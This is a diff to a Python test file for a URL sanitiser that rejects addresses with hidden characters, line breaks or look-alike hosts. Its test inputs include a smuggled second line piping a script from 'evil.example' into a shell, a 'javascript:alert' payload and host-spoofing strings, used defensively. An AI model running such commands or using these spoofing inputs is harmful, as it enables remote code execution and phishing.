@@ -8,8 +8,11 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from irtui.model.records import Source
-from irtui.query.addresses import Address, UnsafeAddressError, address
+from irtui.model.safe_text import unsafe_characters
+from irtui.query.addresses import Address, UnsafeAddressError, address, address_to_copy
 from tests.query.answers import BUNDLED, world
+
+HIDDEN = "it has a line break or a character that cannot be seen"
 
 
 @pytest.mark.parametrize(
@@ -34,8 +37,6 @@ from tests.query.answers import BUNDLED, world
         ("https://example.org/\\evil", "https://example.org/%5Cevil"),
         ("https://example.org/<b>\"'", "https://example.org/%3Cb%3E%22'"),
         ("https://example.org/@user:x", "https://example.org/@user:x"),
-        ("https://example.org/\u202egpj.exe", "https://example.org/%E2%80%AEgpj.exe"),
-        ("https://example.org/\ud800", "https://example.org/%ED%A0%80"),
     ],
 )
 def test_an_address_of_the_web_is_written_in_ascii(text: str, url: str | None) -> None:
@@ -56,8 +57,6 @@ def test_an_address_of_the_web_is_written_in_ascii(text: str, url: str | None) -
         ("https://भारत.example/", "xn--h2brj9c.example"),
         ("https://evil。com/", "evil.com"),
         ("https://ℂ.example/", "c.example"),
-        ("https://exam\u00adple.org/", "example.org"),
-        ("https://exam\u200bple.org/", "example.org"),
     ],
 )
 def test_a_host_that_looks_other_than_it_reads_is_given_away(text: str, host: str) -> None:
@@ -78,7 +77,6 @@ def test_a_host_that_looks_other_than_it_reads_is_given_away(text: str, host: st
         ("data:text/html,x", "only http and https are"),
         ("mailto:a@example.org", "only http and https are"),
         ("-https://example.org", "only http and https are"),
-        ("ht\u200btps://example.org", "only http and https are"),
         ("http:", "it names no host"),
         ("http:example.org", "it names no host"),
         ("http:/example.org", "it names no host"),
@@ -97,18 +95,16 @@ def test_a_host_that_looks_other_than_it_reads_is_given_away(text: str, host: st
         ("http://a..b/", "its host is malformed"),
         ("http://./", "its host is malformed"),
         (f"http://{'a' * 64}.example/", "its host is malformed"),
-        ("http://\ud800.example/", "its host is malformed"),
         # A browser goes to evil.example; who reads the whole host sees good.example at its end.
         ("https://evil.example\\.good.example/", "its host is malformed"),
         ("https://%65vil.example/", "its host is malformed"),
         ("https://exa mple.org/", "its host is malformed"),
-        ("https://exa\x01mple.org/", "its host is malformed"),
-        ("https://exa\x7fmple.org/", "its host is malformed"),
-        ("https://exa<U+200B>mple.org/", "its host is malformed"),  # after safe_text
         ('https://exa"mple.org/', "its host is malformed"),
         ("https://exa|mple.org/", "its host is malformed"),
         ("http://[fe80::1%25eth0]/", "its host is malformed"),
         ("http://[v1.example]/", "malformed"),
+        ("https://exa<U+200B>mple.org/", HIDDEN),  # after safe_text
+        ("https://example.org/␉x", HIDDEN),
     ],
 )
 def test_all_else_is_not_opened_and_the_reason_is_given(text: str, why: str) -> None:
@@ -116,6 +112,46 @@ def test_all_else_is_not_opened_and_the_reason_is_given(text: str, why: str) -> 
         address(text)
     assert why in str(raised.value)
     assert text in str(raised.value)
+    assert address_to_copy(text) is None
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://example.org/\ncurl https://evil.example/ | sh",
+        "https://example.org/\r\nx",
+        "https://example.org/a\tb",
+        "https://exa\nmple.org/",
+        "java\nscript:alert(1)",
+        "https://example.org/\u202egpj.exe",
+        "https://exam\u00adple.org/",
+        "https://exam\u200bple.org/",
+        "https://exa\x01mple.org/",
+        "https://example.org/\ud800",
+        "https://example.org/\u3164",
+        "https://example.org/\ufffe",
+    ],
+)
+def test_a_second_line_or_a_hidden_sign_is_refused_and_told_on_one_safe_line(text: str) -> None:
+    with pytest.raises(UnsafeAddressError, match=HIDDEN) as raised:
+        address(text)
+    assert not unsafe_characters(str(raised.value), line=True)
+    assert address_to_copy(text) is None
+
+
+@pytest.mark.parametrize(
+    ("text", "copied"),
+    [
+        (" https://example.org/Бойцов\n", "https://example.org/Бойцов"),
+        ("https://аpple.com/", "https://xn--pple-43d.com/"),
+        ("https://example.org/a\u3000b", "https://example.org/a%E3%80%80b"),
+        (None, None),
+    ],
+)
+def test_an_address_is_copied_as_one_reads_it_unless_that_deceives(
+    text: str | None, copied: str | None
+) -> None:
+    assert address_to_copy(text) == copied
 
 
 HOSTS = st.text(
@@ -147,6 +183,10 @@ def test_any_text_is_refused_or_gives_an_address_that_cannot_deceive(text: str) 
     assert parts.username is parts.password is None
     assert re.fullmatch(r"[a-z0-9._-]+|[0-9a-f:.]+", found.host)
     assert address(found.url) == Address(found.url, found.host, disguised=False)
+    copied = address_to_copy(text)
+    assert copied is not None
+    assert len(copied.split()) == 1
+    assert address(copied).host == found.host
 
 
 def test_every_address_of_the_bundled_dataset_may_be_opened() -> None:
